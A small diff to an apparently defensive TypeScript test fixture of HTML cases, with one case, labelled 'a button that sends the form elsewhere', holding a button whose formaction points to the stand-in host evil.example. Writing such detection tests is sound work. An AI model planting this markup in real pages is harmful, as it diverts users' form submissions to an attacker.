@@ -48,7 +48,7 @@ export const MARKUP: ArtifactCase[] = [
   ),
   markup(
     'a button that sends the form elsewhere',
-    '<form action="/api/leads" method="post"><button formaction="//evil.example/">x</button></form>',
+    '<form action="/aaa" method="post"><button formaction="//evil.example/">x</button></form>',
   ),
   markup(
     'a picture of another origin',
